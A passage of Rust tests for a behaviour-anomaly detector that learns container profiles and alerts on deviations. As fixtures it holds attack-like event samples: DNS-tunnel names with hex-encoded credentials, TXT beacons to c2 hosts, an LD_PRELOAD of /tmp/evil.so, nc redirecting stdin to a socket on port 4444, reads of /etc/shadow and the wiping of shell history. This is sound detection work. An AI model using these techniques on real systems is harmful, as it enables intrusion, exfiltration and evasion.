        argv_shape(&["x".into(), "-n".into(), "12345".into(), "/tmp/a/b".into(), "http://h/p".into()]),
        "-n N /tmp/a/… http://…"
    );
    // Digits inside an argument are numbers too: a date, a host's port, a path's year, a flag's size.
    let shape = |argv: &[&str]| argv_shape(&argv.iter().map(|a| a.to_string()).collect::<Vec<_>>());
    assert_eq!(shape(&["pg_dump", "-f", "dump-20261207.sql"]), "-f dump-N.sql");
    assert_eq!(shape(&["nc", "-z", "db:5432", "worker-17b"]), "-z db:N worker-Nb");
    assert_eq!(shape(&["tar", "czf", "/backups/2026/12/db.tgz", "-Xmx512m"]), "czf /backups/N/N/… -XmxNm");
    assert_eq!(shape(&["env", "python3.11", "x86_64", "no-digits"]), "pythonN.N xN_N no-digits");
    assert_eq!(path_class("/proc/1234/status"), "/proc/N/status");
    assert_eq!(path_class("/tmp/tmp.XYZ123"), "/tmp/*");
    for (path, class) in [
        ("/tmp/", "/tmp/*"),
        ("/tmp", "/tmp"),
        ("/", "/"),
        ("/var/lib/app/12/x.db", "/var/lib/app/N/*"),
        ("/var/log/app/app.log.1.gz", "/var/log/app/*"),
        ("/srv/1/22/x3", "/srv/N/N/x3"),
        ("/srv/app//7", "/srv/app//N"),
        ("/x/", "/x/"),
        ("notes.db", "(relative)"),
        ("", "(relative)"),
    ] {
        assert_eq!(path_class(path), class, "{path}");
    }
    assert_eq!(peer_class(&sock("10.1.2.3", 1)), "private");
    assert_eq!(peer_class(&sock("8.8.8.8", 1)), "public");
    assert_eq!(gram_words(pack(&[59, 33, 33])), "execve→dup2→dup2");
    let mut ctx = SyscallContext::default();
    assert!(ctx.grams(1, &[1, 2, 3]).is_empty());
    assert_eq!(ctx.grams(1, &[4, 5, 6, 7]), vec![pack(&[1, 2, 3, 4, 5, 6]), pack(&[2, 3, 4, 5, 6, 7])]);
    assert_eq!(ctx.grams(2, &[1, 2, 3, 4, 5, 6]).len(), 1);
    // A call repeated more than twice in a row counts twice: a loop's length is the data's, not behaviour — a
    // close per descriptor left open, a write per block. Within a batch and across batches alike.
    assert_eq!(ctx.grams(3, &[1, 3, 3, 3, 3, 3, 3, 3, 2, 4, 5]), vec![pack(&[1, 3, 3, 2, 4, 5])]);
    assert_eq!(ctx.grams(4, &[1, 3, 3, 3, 2, 4, 5]), ctx.grams(5, &[1, 3, 3, 2, 4, 5]), "loops of 3 and 2");
    assert_eq!(ctx.grams(3, &[5, 5, 6]), vec![pack(&[3, 3, 2, 4, 5, 5]), pack(&[3, 2, 4, 5, 5, 6])]);
    assert!(ctx.grams(3, &[6, 6, 6, 6]).len() == 1, "6 6 then folded: one gram");
    assert_eq!(ctx.grams(3, &[7]), vec![pack(&[4, 5, 5, 6, 6, 7])]);
    // Two of a call stay two: a dup2 pair is not a single dup2.
    assert_ne!(ctx.grams(6, &[1, 2, 33, 33, 59, 1]), ctx.grams(7, &[1, 2, 33, 59, 1, 1]));
    // A futex (202) is not part of a sequence wherever the scheduler put it: in a batch, at its end, across
    // batches, or between two calls that then fold.
    let plain = ctx.grams(8, &[17, 1, 3, 0, 17, 18, 3]);
    assert_eq!(plain.len(), 2);
    assert_eq!(ctx.grams(9, &[17, 202, 1, 3, 202, 202, 0, 17, 18, 3, 202]), plain);
    assert!(ctx.grams(10, &[202, 17, 1, 202]).is_empty());
    assert_eq!(ctx.grams(10, &[3, 0, 202, 17, 18, 3]), plain);
    assert_eq!(ctx.grams(11, &[5, 5, 202, 5, 1, 2, 3]), ctx.grams(12, &[5, 5, 1, 2, 3]), "a loop around a futex folds");
    // Only futex: its neighbours in the syscall table count.
    assert_ne!(ctx.grams(13, &[17, 201, 1, 3, 0, 17, 18, 3]), plain);
    // Nor are the memory manager's calls (mmap 9, mprotect 10, munmap 11, brk 12, mremap 25, madvise 28): where a
    // heap grows or shrinks is the allocator's.
    assert_eq!(ctx.grams(14, &[17, 9, 1, 10, 3, 11, 12, 0, 25, 17, 28, 18, 3]), plain);
    assert_ne!(ctx.grams(15, &[17, 13, 1, 3, 0, 17, 18, 3]), plain, "rt_sigaction (13) is no memory call");
}

#[test]
fn a_profile_whose_grams_were_formed_otherwise_drops_them_and_keeps_the_rest() {
    let dir = tempfile::tempdir().unwrap();
    let store = ProfileStore::new(dir.path().join("profiles"));
    let mut a = Box_::new("a", 0);
    let mut b = Box_::new("b", 0);
    let p = learn(Policy::default(), vec![a.normal(), b.normal()]).remove(0);
    assert!(!p.grams.is_empty() && p.syscall_threshold.is_some() && p.gram_form == GRAM_FORM);
    let path = store.save(&p).unwrap();
    let now = ProfileStore::read(&path).unwrap();
    assert_eq!((now.grams.len(), now.syscall_threshold), (p.grams.len(), p.syscall_threshold), "this form: kept");
    // Saved by a kestrel from before the form was recorded: its grams would not match what is scored now.
    let mut old: serde_json::Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    old.as_object_mut().unwrap().remove("gram_form");
    std::fs::write(&path, serde_json::to_vec(&old).unwrap()).unwrap();
    let then = ProfileStore::read(&path).unwrap();
    assert!(then.grams.is_empty() && then.syscall_threshold.is_none(), "{:?}", then.syscall_threshold);
    assert_eq!(then.gram_form, GRAM_FORM, "saved again, it is of this form");
    assert!(then.knows(View::Process, "exec /usr/sbin/nginx"), "the other views stay");
    assert_eq!(then.trusted_counts().0, p.trusted_counts().0);
}

/// A profile saved when a program run with no arguments was put as `exec PROGRAM ` (word form 0) keeps what it
/// learned: the words are rewritten when it is loaded, and the program run so is still known.
#[test]
fn a_profile_saved_in_older_words_keeps_what_it_learned() {
    let dir = tempfile::tempdir().unwrap();
    let store = ProfileStore::new(dir.path().join("profiles"));
    let (mut a, mut b) = (Box_::new("a", 0), Box_::new("b", 0));
    let with_ps = |x: &mut Box_| {
        let mut v = x.normal();
        v.push(x.exec("sh", 2, &["/bin/ps"]));
        v
    };
    let p = learn(Policy::default(), vec![with_ps(&mut a), with_ps(&mut b)]).remove(0);
    assert!(p.knows(View::Process, "exec /bin/ps with no arguments") && p.word_form == WORD_FORM);
    let path = store.save(&p).unwrap();
    // The same profile as an older kestrel saved it: no word form, and the old words.
    let mut old: serde_json::Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    old.as_object_mut().unwrap().remove("word_form");
    let mut rewritten = 0;
    for b in old["behaviours"].as_array_mut().unwrap() {
        if b["key"] == "exec /bin/ps with no arguments" {
            b["key"] = "exec /bin/ps ".into();
            rewritten += 1;
        }
    }
    assert_eq!(rewritten, 1);
    std::fs::write(&path, serde_json::to_vec(&old).unwrap()).unwrap();
    let then = ProfileStore::read(&path).unwrap();
    assert!(then.knows(View::Process, "exec /bin/ps with no arguments"), "{:?}", then.behaviours);
    assert!(then.behaviours.iter().all(|b| !b.key.ends_with(' ')));
    assert!(then.knows(View::Process, "exec /usr/bin/wget -q http://…"), "words with arguments stay");
    assert_eq!((then.word_form, then.trusted_counts()), (WORD_FORM, p.trusted_counts()));
}

/// A profile saved before digits inside an argument were `N` (word form 2) keeps what it learned, in the new words:
/// a dump named by its date in two containers, once each, is one behaviour seen in both — trusted, as learning it
/// now would make it; a parent's name and a program's own name keep their digits.
#[test]
fn a_profile_saved_before_digits_in_arguments_were_numbers_learns_them_as_one() {
    let dir = tempfile::tempdir().unwrap();
    let store = ProfileStore::new(dir.path().join("profiles"));
    let dump = |x: &mut Box_, day: &str| {
        let mut v = x.normal();
        v.push(x.exec("runc", 1, &["/usr/bin/python3", "backup.py"]));
        let python = x.pid;
        v.push(x.exec("python3", python, &["/usr/bin/pg_dump", "-f", &format!("dump-{day}.sql")]));
        v.push(x.exec_from("/proc/self/exe", "python3", python, &["nslookup", &format!("q{day}.example")]));
        v
    };
    let (mut a, mut b) = (Box_::new("a", 0), Box_::new("b", 0));
    let p = learn(Policy::default(), vec![dump(&mut a, "20261206"), dump(&mut b, "20261207")]).remove(0);
    let (dump_key, lookup_key) =
        ("exec /usr/bin/pg_dump -f dump-N.sql", "exec nslookup (via /proc/self/exe) qN.example");
    assert!(p.knows(View::Process, dump_key) && p.knows(View::Process, lookup_key), "{:#?}", p.behaviours);
    assert!(p.knows(View::Process, "exec /usr/bin/pg_dump with parent python3"));
    let path = store.save(&p).unwrap();
    // As a kestrel of word form 2 saved it: each container's own date, each seen once.
    let mut old: serde_json::Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    old["word_form"] = 2.into();
    let behaviours = old["behaviours"].as_array_mut().unwrap();
    let mut split = Vec::new();
    for b in behaviours.iter_mut() {
        for (key, old_words) in [
            (dump_key, "exec /usr/bin/pg_dump -f dump-{}.sql"),
            (lookup_key, "exec nslookup (via /proc/self/exe) q{}.example"),
        ] {
            if b["key"] == key {
                let mut other = b.clone();
                b["key"] = old_words.replace("{}", "20261206").into();
                b["contributors"] = serde_json::json!([b["contributors"][0]]);
                other["key"] = old_words.replace("{}", "20261207").into();
                other["contributors"] = serde_json::json!([other["contributors"][1]]);
                // A file's counts near the limit: the merged count stops there.
                (b["count"], other["count"]) = (u64::MAX.into(), 2.into());
                split.push(other);
            }
        }
    }
    assert_eq!(split.len(), 2);
    behaviours.extend(split);
    std::fs::write(&path, serde_json::to_vec(&old).unwrap()).unwrap();
    let then = ProfileStore::read(&path).unwrap();
    assert_eq!(then.word_form, WORD_FORM);
    assert!(then.knows(View::Process, dump_key) && then.knows(View::Process, lookup_key), "{:#?}", then.behaviours);
    assert!(then.behaviours.iter().all(|b| !b.key.contains("2026120")), "{:#?}", then.behaviours);
    assert!(then.knows(View::Process, "exec /usr/bin/pg_dump with parent python3"), "a parent's digits stay");
    assert_eq!(then.behaviour(View::Process, dump_key).map(|b| b.count), Some(u64::MAX));
    assert_eq!(then.behaviours.len(), p.behaviours.len());
    assert_eq!(then.trusted_counts(), p.trusted_counts());
}

/// A profile saved before a second listen had words of its own (word form 1) judges no listen it did not judge
/// before: a program it saw listen is taken to have listened again too.
#[test]
fn a_profile_saved_before_listens_again_had_words_takes_every_listener_it_knew_for_learned() {
    let dir = tempfile::tempdir().unwrap();
    let store = ProfileStore::new(dir.path().join("profiles"));
    let serves = |b: &mut Box_| {
        let mut v = service_start(b);
        v.push(b.ev(b.pid, "python3", EventKind::Listen { fd: 3, backlog: 5 }));
        v
    };
    let (mut a, mut b) = (Box_::new("a", 0), Box_::new("b", 0));
    let p = learn(Policy::default(), vec![serves(&mut a), serves(&mut b)]).remove(0);
    assert!(!p.knows(View::Network, "python3 listens again"));
    let path = store.save(&p).unwrap();
    let mut old: serde_json::Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    old["word_form"] = 1.into();
    std::fs::write(&path, serde_json::to_vec(&old).unwrap()).unwrap();
    let then = ProfileStore::read(&path).unwrap();
    assert!(then.knows(View::Network, "python3 listens again"), "{:?}", then.behaviours);
    assert!(!then.knows(View::Network, "nginx listens again"), "only programs that listened");
    assert_eq!(then.word_form, WORD_FORM);
    // Read again (as this kestrel saved it), nothing more is added.
    let again = ProfileStore::read(&store.save(&then).unwrap()).unwrap();
    assert_eq!(again.behaviours.len(), then.behaviours.len());
}

/// The words of each kind of behaviour are the identity of what a saved profile learned: they must not change
/// between versions (a profile learned before would then find everything new).
#[test]
fn code_mapped_from_where_the_program_never_mapped_code_is_an_alert_and_a_new_library_beside_its_own_is_not() {
    // nginx maps its libraries from the system's library directory in three containers. In a fourth, a library it
    // never mapped from that same directory (a module loaded late) is one weak sign, no alert; a library mapped
    // from /tmp, and code from a memfd, are — unless the profile never learned a mapping at all.
    let map = |b: &mut Box_, pid, path: &str, memfd| {
        b.ev(pid, "nginx", EventKind::Mmap { path: path.into(), prot: 5, memfd, deleted: false, file: None })
    };
    let lib = "/usr/lib/x86_64-linux-gnu";
    let streams = ["a", "b", "c"].map(|id| {
        let mut b = Box_::new(id, 0);
        let mut v = b.normal();
        let nginx = b.pid - 2;
        v.push(map(&mut b, nginx, &format!("{lib}/libssl.so.3"), false));
        v.push(map(&mut b, nginx, &format!("{lib}/libc.so.6"), false));
        v
    });
    let mut d = model_only(learn(Policy::default(), streams.to_vec()), Stage::Detect);
    let mut e = Box_::new("e", 10 * SEC);
    let normal = e.normal();
    let nginx = e.pid - 2;
    assert!(model_alerts(&mut d, &normal).is_empty());
    let known = [map(&mut e, nginx, &format!("{lib}/libc.so.6"), false)];
    assert!(model_alerts(&mut d, &known).is_empty());
    let late = [map(&mut e, nginx, &format!("{lib}/libgeoip.so.1"), false)];
    assert!(model_alerts(&mut d, &late).is_empty(), "a new library beside its own");
    let dropped = [map(&mut e, nginx, "/tmp/.x.so", false)];
    let a = model_alerts(&mut d, &dropped);
    assert_eq!(a.len(), 1, "{a:?}");
    assert!(a[0].explanation.iter().any(|x| x.contains("nginx maps code in /tmp")), "{:?}", a[0].explanation);
    // (Learned from a source that does not say whether it reports memory made executable, none made: not known.)
    let baseline = "; code mappings learned";
    assert!(a[0].explanation.iter().any(|x| x.ends_with(baseline)), "{:?}", a[0].explanation);
    let a = model_alerts(&mut d, &[map(&mut e, nginx, "/memfd:x", true)]);
    assert_eq!(a.len(), 1, "{a:?}");
    // A profile learned without mapping events (an older kestrel's, or `--leave-out mmap`) judges none: every library
    // of every program would be new to it.
    let before = ["a", "b", "c"].map(|id| Box_::new(id, 0).normal());
    let mut d = model_only(learn(Policy::default(), before.to_vec()), Stage::Detect);
    let mut e = Box_::new("e", 10 * SEC);
    assert!(model_alerts(&mut d, &e.normal()).is_empty());
    let nginx = e.pid - 2;
    let maps = [map(&mut e, nginx, "/tmp/.x.so", false), map(&mut e, nginx, "/memfd:x", true)];
    assert!(model_alerts(&mut d, &maps).is_empty());
}

#[test]
fn memory_made_executable_by_a_program_that_never_did_is_an_alert_and_a_jit_s_is_not() {
    // nginx, and a JIT-compiling program ("node") beside it, in three containers: node makes anonymous memory
    // executable in each. In a fourth, node's JIT is known; nginx making anonymous or heap memory executable
    // (shellcode) alerts on that alone, and says so; a library's own code made executable again beside the
    // libraries it maps does not. A profile learned by a kestrel that did not read such memory judges none.
    let lib = "/usr/lib/x86_64-linux-gnu";
    let mem = |b: &mut Box_, pid, comm: &str, region: &str, path: Option<&str>| {
        let kind = EventKind::ExecMemory {
            call: "mprotect".into(),
            prot: 5,
            region: region.into(),
            length: 4096,
            path: path.map(Into::into),
            file: None,
        };
        b.ev(pid, comm, kind)
    };
    let map = |b: &mut Box_, pid, path: String| {
        b.ev(pid, "nginx", EventKind::Mmap { path, prot: 5, memfd: false, deleted: false, file: None })
    };
    let streams = ["a", "b", "c"].map(|id| {
        let mut b = Box_::new(id, 0);
        let mut v = b.normal();
        let nginx = b.pid - 2;
        v.push(map(&mut b, nginx, format!("{lib}/libc.so.6")));
        v.push(mem(&mut b, 900, "node", "anonymous", None));
        v
    });
    let learned = learn(Policy::default(), streams.to_vec());
    assert!(learned.iter().all(|p| p.exec_memory), "learned by this kestrel, with mappings");
    let mut d = model_only(learned.clone(), Stage::Detect);
    let mut e = Box_::new("e", 10 * SEC);
    let normal = e.normal();
    let nginx = e.pid - 2;
    assert!(model_alerts(&mut d, &normal).is_empty());
    assert!(model_alerts(&mut d, &[mem(&mut e, 900, "node", "anonymous", None)]).is_empty(), "the JIT's");
    let relocated = [mem(&mut e, nginx, "nginx", "file", Some(&format!("{lib}/libc.so.6")))];
    assert!(model_alerts(&mut d, &relocated).is_empty(), "a library's code it maps anyway");
    for region in ["anonymous", "heap"] {
        let a = model_alerts(&mut d, &[mem(&mut e, nginx, "nginx", region, None)]);
        assert_eq!(a.len(), 1, "{region}: {a:?}");
        let says = format!("nginx makes {region} memory executable");
        assert!(a[0].explanation.iter().any(|x| x.contains(&says)), "{:?}", a[0].explanation);
    }
    // The same profiles as a kestrel before this one saved them: no `exec_memory`.
    let old: Vec<Profile> = learned.into_iter().map(|p| Profile { exec_memory: false, ..p }).collect();
    let mut d = model_only(old, Stage::Detect);
    let mut e = Box_::new("e", 10 * SEC);
    assert!(model_alerts(&mut d, &e.normal()).is_empty());
    let nginx = e.pid - 2;
    assert!(model_alerts(&mut d, &[mem(&mut e, nginx, "nginx", "heap", None)]).is_empty());
}

#[test]
fn a_kind_is_judged_only_when_the_learning_source_would_have_shown_it() {
    // nginx alone, in three containers, with its libraries mapped: no program made memory executable or a directory
    // while learning. Whether that means "never" depends on the source: a sensor that says it reports those kinds (a
    // recording's header, the live sensor), one that says it does not (`--leave-out`, a kernel without
    // bpf_find_vma), or an older recording that does not say — then memory made executable counts only if such an
    // event came (it is rare), and every other kind is judged as before.
    let lib = "/usr/lib/x86_64-linux-gnu";
    let streams = || {
        ["a", "b", "c"].map(|id| {
            let mut b = Box_::new(id, 0);
            let mut v = b.normal();
            let nginx = b.pid - 2;
            let path = format!("{lib}/libc.so.6");
            v.push(b.ev(nginx, "nginx", EventKind::Mmap { path, prot: 5, memfd: false, deleted: false, file: None }));
            v
        })
    };
    let learn_from = |reports: Option<&[&str]>| {
        let policy = Policy::default();
        let mut d = Detector::new(RuleSet::default().compile(), vec![], policy, WorkloadBy::Image, Stage::Learn);
        let reports: Option<Vec<String>> = reports.map(|r| r.iter().map(|k| k.to_string()).collect());
        d.set_reports(reports.as_deref());
        for e in streams().into_iter().flatten() {
            assert!(d.process(&e).is_empty());
        }
        let mut ps = d.into_profiles();
        ps.iter_mut().for_each(|p| p.set_mode(Mode::Monitor, 0));
        ps
    };
    // Alerts on shellcode, and on a directory made where nginx never made one, in a fresh replica.
    let deviations = |ps: &[Profile]| {
        let mut d = model_only(ps.to_vec(), Stage::Detect);
        let mut e = Box_::new("e", 10 * SEC);
        assert!(model_alerts(&mut d, &e.normal()).is_empty());
        let nginx = e.pid - 2;
        let kind = EventKind::ExecMemory {
            call: "mprotect".into(),
            prot: 5,
            region: "anonymous".into(),
            length: 4096,
            path: None,
            file: None,
        };
        let shellcode = model_alerts(&mut d, &[e.ev(nginx, "nginx", kind)]).len();
        let kind = EventKind::Mkdir { call: "mkdir".into(), path: "/srv/drop".into(), dirfd: false, mode: 0o755 };
        let mkdir = model_alerts(&mut d, &[e.ev(nginx, "nginx", kind)]).len();
        (shellcode, mkdir)
    };
    assert_eq!(EXEC_MEMORY_BIT, kestrel_core::leavable_bits(&["exec-memory"]));
    let said = learn_from(Some(&kestrel_core::LEAVABLE_KINDS));
    assert!(
        said.iter().all(|p| p.exec_memory && p.maps),
        "{:?}",
        said.iter().map(Profile::baseline).collect::<Vec<_>>()
    );
    assert_eq!(deviations(&said), (1, 1), "a source that reports both: nginx never did either, and now does");
    let left_out = learn_from(Some(&["mmap", "send"]));
    assert!(left_out.iter().all(|p| !p.exec_memory && p.maps));
    assert!(
        left_out[0].baseline().contains("not reported while learning, not judged: dup, mkdir, unlink"),
        "{}",
        left_out[0].baseline()
    );
    assert_eq!(
        deviations(&left_out),
        (0, 0),
        "learned without the probes: not judged (every JIT, every mkdir would be new)"
    );
    let unsaid = learn_from(None);
    assert!(unsaid.iter().all(|p| !p.exec_memory && p.maps && p.reported.is_none()), "an older recording");
    assert_eq!(deviations(&unsaid), (0, 1), "memory made executable, rare, not known; the rest judged as before");
    // Saved and loaded: the kinds by name.
    let json = serde_json::to_value(&left_out[0]).unwrap();
    assert_eq!(json["reported"], serde_json::json!(["send", "mmap"]));
    let back: Profile = serde_json::from_value(json).unwrap();
    assert_eq!(back.reported, left_out[0].reported);
    // Merged: a kind is judged when k nodes reported it; a node that does not say counts as reporting every kind.
    let m = merge("w", &[("n1", &left_out[0]), ("n2", &said[0]), ("n3", &unsaid[0])], 2);
    let but_dns: Vec<&str> = kestrel_core::LEAVABLE_KINDS.iter().copied().filter(|k| *k != "dns").collect();
    assert_eq!(m.reported.map(kestrel_core::leavable_names), Some(but_dns), "an older source showed no DNS question");
    let m = merge("w", &[("n1", &said[0]), ("n2", &said[0]), ("n3", &unsaid[0])], 2);
    assert_eq!(m.reported.map(kestrel_core::leavable_names), Some(kestrel_core::LEAVABLE_KINDS.to_vec()));
    let m = merge("w", &[("n1", &left_out[0]), ("n2", &left_out[0]), ("n3", &said[0])], 2);
    assert_eq!(m.reported.map(kestrel_core::leavable_names), Some(vec!["send", "mmap"]));
    assert!(merge("w", &[("n1", &unsaid[0]), ("n2", &unsaid[0])], 2).reported.is_none());
}

#[test]
fn dns_questions_in_a_zone_never_asked_about_alert_with_encoded_names_or_a_new_record_type() {
    // The app resolves its database's name (A and AAAA) at every start, in three containers. In a fresh one: the
    // same, quiet; a zone never asked about, alone (a service called for the first time), quiet; a tunnel's
    // names — hex in a label, in a new zone — alert, and say so; a beacon's TXT question in a new zone alerts;
    // bytes that are no question sent to port 53 alert. A profile learned from a source that did not report DNS
    // questions (an older recording) judges none of them.
    let server = || SockAddr { family: "inet".into(), addr: "10.96.0.10".into(), port: 53, proto: None };
    let dns = |name: &str, qtype: &str| EventKind::Dns { to: server(), name: name.into(), qtype: qtype.into() };
    let app = |b: &mut Box_| -> (Vec<Event>, u32) {
        let mut v = b.normal();
        v.push(b.exec("runc", 1, &["/usr/bin/python3", "/srv/app/app.py"]));
        let py = b.pid;
        for t in ["A", "AAAA"] {
            v.push(b.ev(py, "python3", dns("db.Internal.example.com", t)));
        }
        (v, py)
    };
    let learn_from = |reports: &[&str]| {
        let mut d =
            Detector::new(RuleSet::default().compile(), vec![], Policy::default(), WorkloadBy::Image, Stage::Learn);
        let reports: Vec<String> = reports.iter().map(|k| k.to_string()).collect();
        d.set_reports(Some(&reports));
        for id in ["a", "b", "c"] {
            for e in app(&mut Box_::new(id, 0)).0 {
                assert!(d.process(&e).is_empty());
            }
        }
        let mut ps = d.into_profiles();
        ps.iter_mut().for_each(|p| p.set_mode(Mode::Monitor, 0));
        ps
    };
    let learned = learn_from(&kestrel_core::LEAVABLE_KINDS);
    let tunnel = "4b6f6e74656e3a2061646d696e2070617373776f72643a2068756e74657232.0.x.Example.NET";
    let judge = |ps: &[Profile], kind: EventKind| {
        let mut d = model_only(ps.to_vec(), Stage::Detect);
        let mut b = Box_::new("e", 10 * SEC);
        let (normal, py) = app(&mut b);
        assert!(model_alerts(&mut d, &normal).is_empty());
        let e = b.ev(py, "python3", kind);
        model_alerts(&mut d, &[e])
    };
    assert!(judge(&learned, dns("db.internal.example.com", "A")).is_empty(), "case-blind");
    assert!(judge(&learned, dns("api.payments.example.org", "A")).is_empty(), "a new zone alone");
    let a = judge(&learned, dns(tunnel, "A"));
    assert_eq!(a.len(), 1, "{a:?}");
    let said = a[0].explanation.join("\n");
    assert!(said.contains("python3 looks up names with encoded data in example.net"), "{said}");
    assert!(said.contains("python3 looks up names in example.net"), "{said}");
    assert_eq!(judge(&learned, dns("c2.example.org", "TXT")).len(), 1, "a beacon asking for its command");
    assert_eq!(judge(&learned, dns("", "")).len(), 1, "no DNS question through the DNS port");
    let older = learn_from(&["send", "mmap"]);
    assert!(judge(&older, dns(tunnel, "A")).is_empty(), "DNS questions not reported while learning");
    assert!(older[0]
        .baseline()
        .contains("not judged: dup, mkdir, unlink, truncate, rename, link, socket, exec-memory, dns"));
}

#[test]
fn feature_words_stay_the_same_for_every_kind_of_event() {
    let cases: &[(&str, &[&str])] = &[
        (
            r#""comm":"sh","kind":"exec","ppid":1,"uid":0,"gid":0,"euid":0,"exe":"/proc/self/exe","argv":["cat","-n","/etc/x","12","deadbeef00","10.0.0.1","http://h/p","a b"],"cap_effective":0,"env":["LD_PRELOAD=/tmp/evil.so","PATH=/bin"]"#,
            &[
                "exec cat (via /proc/self/exe)",
                "exec cat (via /proc/self/exe) with parent nginx",
                "exec cat (via /proc/self/exe) as root",
                "exec cat (via /proc/self/exe) -n /etc/… N H IP http://… S",
                "exec with LD_PRELOAD=/tmp/evil.so",
            ],
        ),
        (
            r#""comm":"x","kind":"exec","ppid":1,"uid":7,"gid":0,"euid":7,"exe":"/dev/fd/6","argv":["runc","1","2","3","4","5","6","7","8","9"],"cap_effective":0"#,
            &[
                "exec runc (via a file descriptor)",
                "exec runc (via a file descriptor) with parent nginx",
                "exec runc (via a file descriptor) as non-root",
                "exec runc (via a file descriptor) N N N N N N N N …",
            ],
        ),
        (
            r#""comm":"x","kind":"exec","ppid":1,"uid":7,"gid":0,"euid":7,"exe":"/bin/ps","argv":["ps"],"cap_effective":0"#,
            &[
                "exec /bin/ps",
                "exec /bin/ps with parent nginx",
                "exec /bin/ps as non-root",
                "exec /bin/ps with no arguments",
            ],
        ),
        (
            r#""comm":"app","kind":"open","path":"/tmp/a/123/f","flags":65"#,
            &["write in /tmp/a/N", "app writes /tmp/a/N/*"],
        ),
        (
            r#""comm":"app","kind":"open","path":"/etc//shadow","flags":0"#,
            &["read /etc/shadow", "app reads /etc/shadow"],
        ),
        (r#""comm":"app","kind":"open","path":"/proc/42/stat","flags":0"#, &["app reads /proc/N/stat"]),
        (
            r#""comm":"app","kind":"open","path":"/proc/42/environ","flags":0"#,
            &["read /proc/N/environ", "app reads /proc/N/environ"],
        ),
        (
            r#""comm":"app","kind":"open","path":"/proc/self/environ","flags":0"#,
            &["read /proc/self/environ", "app reads /proc/self/environ"],
        ),
        (r#""comm":"app","kind":"open","path":"rel/x","flags":0"#, &["app reads (relative)"]),
        (
            r#""comm":"app","kind":"connect","to":{"family":"inet","addr":"8.8.8.8","port":53}"#,
            &["connect to public port 53", "app connects to public port 53"],
        ),
        (
            r#""comm":"app","kind":"send","call":"sendto","to":{"family":"inet","addr":"127.0.0.1","port":40000}"#,
            &["send to loopback port ephemeral", "app sends to loopback port ephemeral"],
        ),
        (
            r#""comm":"app","kind":"dns","to":{"family":"inet","addr":"10.96.0.10","port":53},"name":"6b6579a0b1c2d3e4f5061728394a5b6c7d.X.Example.CO.UK","qtype":"TXT""#,
            &[
                "app looks up names in example.co.uk",
                "app looks up names with encoded data in example.co.uk",
                "app asks for TXT records",
            ],
        ),
        (
            r#""comm":"app","kind":"dns","to":{"family":"inet","addr":"10.96.0.10","port":53},"name":"","qtype":"""#,
            &["app sends what is no DNS question to port 53"],
        ),
        (
            r#""comm":"mv","kind":"rename","call":"rename","from":"/tmp/x","to":"/usr/bin/x""#,
            &["write in /usr/bin", "mv renames into /usr/bin"],
        ),
        (
            r#""comm":"nc","kind":"dup","call":"dup2","fd":0,"peer":{"family":"inet","addr":"10.1.1.1","port":4444}"#,
            &["make a network connection stdin", "nc makes a connection with private stdin"],
        ),
        (
            r#""comm":"m","kind":"mkdir","call":"mkdir","path":"/var/log/a/b","mode":493"#,
            &["make a directory in /var/log/a"],
        ),
        (r#""comm":"rm","kind":"unlink","call":"unlink","path":"/root/.bash_history""#, &["remove in /root"]),
        (r#""comm":"u","kind":"userfaultfd","flags":0"#, &["u calls userfaultfd"]),
        (
            r#""comm":"t","kind":"socket","family":"packet","sock_type":"raw","protocol":0"#,
            &["open a raw packet socket", "t opens a raw packet socket"],
        ),
        (
            r#""comm":"srv","kind":"bind","addr":{"family":"inet6","addr":"::1","port":80}"#,
            &["srv binds loopback port 80"],
        ),
        (r#""comm":"srv","kind":"listen","fd":3,"backlog":5"#, &["srv listens"]),
        (
            r#""comm":"srv","kind":"accept","from":{"family":"inet","addr":"192.168.1.2","port":50000},"port":8080"#,
            &["accept from private on port 8080"],
        ),
        (
            r#""comm":"srv","kind":"accept","from":{"family":"unix","addr":"","port":0}"#,
            &["accept from unix on port ?"],
        ),
        (r#""comm":"su","kind":"set-ids","call":"setuid","ids":[0]"#, &["su calls setuid to root"]),
        (r#""comm":"su","kind":"set-ids","call":"setgid","ids":[7]"#, &["su calls setgid"]),
        (r#""comm":"c","kind":"capset","effective":0,"permitted":0"#, &["c calls capset"]),
        (
            r#""comm":"u","kind":"namespaces","call":"unshare","namespaces":["mnt","user"],"flags":0"#,
            &["u unshare new mnt+user namespace"],
        ),
        (r#""comm":"n","kind":"setns","nstype":0"#, &["n calls setns"]),
        (r#""comm":"m","kind":"mount","source":"x","target":"/mnt","fstype":"cgroup","flags":0"#, &["m mounts cgroup"]),
        (r#""comm":"g","kind":"ptrace","request":16,"target_pid":1"#, &["g calls ptrace"]),
        (r#""comm":"b","kind":"bpf","cmd":5"#, &["b calls bpf"]),
        (r#""comm":"i","kind":"module-load","call":"init_module""#, &["i calls init_module"]),
        (r#""comm":"c","kind":"setuid-chmod","mode":2541"#, &["c sets a setuid/setgid mode"]),
        (
            r#""comm":"ln","kind":"link","call":"symlink","target":"/etc/./shadow","path":"/tmp/s""#,
            &["link to /etc/shadow", "ln links to /etc/shadow"],
        ),
        (
            r#""comm":"py","kind":"mmap","path":"/usr/lib/python3.11/lib-dynload/_ssl.cpython-311-x86_64-linux-gnu.so","prot":5"#,
            &[
                "py maps code of /usr/lib/python3.11/lib-dynload/_ssl.cpython-311-x86_64-linux-gnu.so",
                "py maps code in /usr/lib/python3.11/lib-dynload",
            ],
        ),
        (
            r#""comm":"postgres","kind":"mmap","path":"/tmp/.pg_stat_cache.so","prot":5"#,
            &["postgres maps code of /tmp/*", "postgres maps code in /tmp"],
        ),
        (r#""comm":"x","kind":"mmap","path":"/memfd:a","prot":5,"memfd":true"#, &["x maps a memfd's code"]),
        (
            r#""comm":"x","kind":"exec-memory","call":"mmap","prot":7,"region":"anonymous","length":4096"#,
            &["x makes anonymous memory executable"],
        ),
        (
            r#""comm":"x","kind":"exec-memory","call":"mprotect","prot":5,"region":"file","length":4096,"path":"/opt/a/b.so""#,
            &["x maps code of /opt/a/b.so", "x maps code in /opt/a"],
        ),
        (r#""comm":"x","kind":"exit","status":0"#, &[]),
        (r#""comm":"x","kind":"syscalls","ids":[1,2,3]"#, &[]),
    ];
    for (kind, want) in cases {
        let json = format!(r#"{{"schema":"{EVENT_SCHEMA}","time_ns":1,"pid":2,"tid":2,"cgroup_id":1,{kind}}}"#);
        let e: Event = serde_json::from_str(&json).unwrap_or_else(|err| panic!("{json}: {err}"));
        let got: Vec<String> =
